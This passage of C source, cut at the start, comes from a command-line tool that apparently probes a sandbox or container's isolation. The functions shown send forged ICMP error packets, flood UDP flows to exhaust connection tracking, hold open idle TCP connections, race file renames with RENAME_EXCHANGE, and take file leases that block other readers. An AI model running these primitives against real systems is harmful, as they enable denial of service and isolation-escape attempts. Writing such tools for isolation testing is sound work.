    if (answer) memcpy(p.inner, (unsigned char[]){ICMP_ECHOREPLY, 0, 0, 0, 0, 7, 0, 1}, 8);
    else memcpy(p.inner, ports, 8);
    p.icmp.checksum = checksum(&p, sizeof p, 0);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = p.ip.saddr};
    for (int i = 0; i < 5; i++) sent += sendto(fd, &p, sizeof p, 0, (void *)&to, sizeof to) == sizeof p;
    printf("sent %d complaints\n", sent);
}

// flows ADDRESS COUNT: one datagram each from as many sockets and to as many ports as give COUNT connections to track.
static void flows(char **args) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(args[0])};
    int count = atoi(args[1]), sent = 0, fd = -1;
    for (int i = 0; i < count; i++) {
        if (i % 1000 == 0) close(fd), fd = socket(AF_INET, SOCK_DGRAM, 0);
        to.sin_port = htons(20000 + i % 1000);
        sent += sendto(fd, "x", 1, 0, (void *)&to, sizeof to) == 1;
    }
    printf("sent %d flows\n", sent);
}

// streams ADDRESS PORT COUNT MS: connects, says nothing, and holds what it has.
static void streams(char **args) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(args[1])), .sin_addr.s_addr = inet_addr(args[0])};
    int opened = 0;
    for (int i = 0; i < atoi(args[2]); i++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        opened += fd >= 0 && !connect(fd, (void *)&to, sizeof to);
    }
    printf("opened %d streams\n", opened), fflush(stdout);
    usleep(atol(args[3]) * 1000);
}

// swap A B MS: exchanges two names, all the time.
static void swap(char **args) {
    long end = now_ms() + atol(args[2]), times = 0;
    for (; now_ms() < end; times++)
        if (renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE)) break;
    printf("exchanged %ld times\n", times);
}

static ino_t leased[4096];
static int leases;

static int lease_one(const char *path, const struct stat *found, int kind, struct FTW *at) {
    (void)at;
    if (kind != FTW_F || !S_ISREG(found->st_mode) || leases == sizeof leased / sizeof *leased) return 0;
    // To open it once more would break our own.
    for (int i = 0; i < leases; i++)
        if (leased[i] == found->st_ino) return 0;
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOFOLLOW);
    // One for writing is in the way of who reads, too.
    if (fd >= 0 && !fcntl(fd, F_SETLEASE, F_WRLCK)) leased[leases++] = found->st_ino;
    else if (fd >= 0) close(fd);
    return 0;
}

// lease MS PATH...: takes a lease on all files there are, and those that come, and gives none back when asked.
static void lease(char **args) {
    long end = now_ms() + atol(args[0]);
    int told = 0;
    signal(SIGIO, SIG_IGN);
    while (now_ms() < end) {
        for (char **path = args + 1; *path; path++) nftw(*path, lease_one, 16, FTW_PHYS);
        if (leases && !told++) printf("leased: %d files\n", leases), fflush(stdout);
        usleep(20000);
    }
}

static const struct { const char *name; void (*run)(char **); int args; } commands[] = {
    {"climb", climb_all, 1}, {"chroot", chroot_out, 1}, {"scan", scan, 2}, {"rewrite", rewrite, 1}, {"writable", writable, 1},
    {"newborn", newborn, 1},
    {"empty", empty, 1}, {"handles", handles, 1}, {"devices", devices, 0}, {"syscalls", syscalls, 0}, {"join", join, 1},
    {"meddle", meddle, 1}, {"capabilities", capabilities, 0}, {"descriptors", descriptors, 0}, {"abstract", abstract, 0},
    {"forge", forge, 3}, {"advertise", advertise, 0}, {"claim", claim, 1},      {"swap", swap, 3}, {"identity", identity, 0},
    {"complain", complain, 5}, {"lease", lease, 2}, {"mighty", mighty, 0}, {"namespaces", namespaces, 0}, {"flows", flows, 2}, {"streams", streams, 4},
};

int main(int count, char **args) {
    for (unsigned i = 0; count > 1 && i < sizeof commands / sizeof *commands; i++) {
        if (strcmp(args[1], commands[i].name) || count - 2 < commands[i].args) continue;
        commands[i].run(args + 2);
        return 0;
    }
    fprintf(stderr, "no such command, or too few arguments\n");
    return 2;
}
